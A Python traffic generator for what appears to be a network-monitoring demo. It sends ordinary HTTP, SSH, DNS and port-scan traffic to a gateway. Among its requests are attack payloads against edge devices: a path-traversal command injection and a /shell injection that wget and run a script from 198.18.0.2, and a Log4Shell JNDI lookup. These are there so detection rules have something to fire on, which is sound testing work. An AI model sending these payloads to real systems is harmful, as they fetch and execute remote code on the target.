#!/usr/bin/env python3
"""Traffic from the demo's internet side: web requests (some of them attacks on an edge
device's web interface), SSH banner grabs, DNS-like queries, and a small port scan.
Every loop is bounded; the demo also bounds the whole script with timeout."""
import socket
import sys
import time

REQUESTS = [
    b"GET / HTTP/1.1\r\nHost: gw\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
    b"GET /index.html HTTP/1.1\r\nHost: gw\r\nUser-Agent: curl/7.88.1\r\n\r\n",
    # what attackers send to edge devices (the rules issue turns these into alerts)
    b"GET /api/v1/totp/user-backup-code/../../license/keys-status/%3bwget%20http%3a%2f%2f"
    b"198.18.0.2%2fx%20-O%20%2ftmp%2fx HTTP/1.1\r\nHost: gw\r\n\r\n",
    b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.18.0.2/bins.sh;chmod+777+bins.sh;sh+bins.sh"
    b" HTTP/1.1\r\nHost: gw\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: gw\r\nUser-Agent: ${jndi:ldap://198.18.0.2:1389/a}\r\n\r\n",
]


def http(addr, request):
    try:
        c = socket.create_connection((addr, 80), timeout=2)
        c.sendall(request)
        while c.recv(4096):
            pass
        c.close()
    except OSError:
        pass


def ssh_banner(addr):
    try:
        c = socket.create_connection((addr, 22), timeout=2)
        c.recv(256)
        c.sendall(b"SSH-2.0-scanner\r\n")
        c.close()
    except OSError:
        pass


def dns(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    try:
        s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x02gw\x00\x00\x01\x00\x01",
                 (addr, 53))
        s.recvfrom(512)
    except OSError:
        pass
    s.close()


def scan(addr, ports):
    for port in ports:
        s = socket.socket()
        s.settimeout(0.2)
        try:
            s.connect((addr, port))
        except OSError:
            pass
        s.close()


def main():
    v4, v6 = sys.argv[1], sys.argv[2]
    deadline = time.time() + 15
    rounds = 0
    while time.time() < deadline and rounds < 6:
        for req in REQUESTS:
            http(v4, req)
        http(v6, REQUESTS[0])
        ssh_banner(v4)
        dns(v4)
        rounds += 1
        time.sleep(1)
    scan(v4, [21, 23, 25, 110, 135, 139, 443, 445, 3389, 8080, 8443, 8291])


if __name__ == "__main__":
    main()
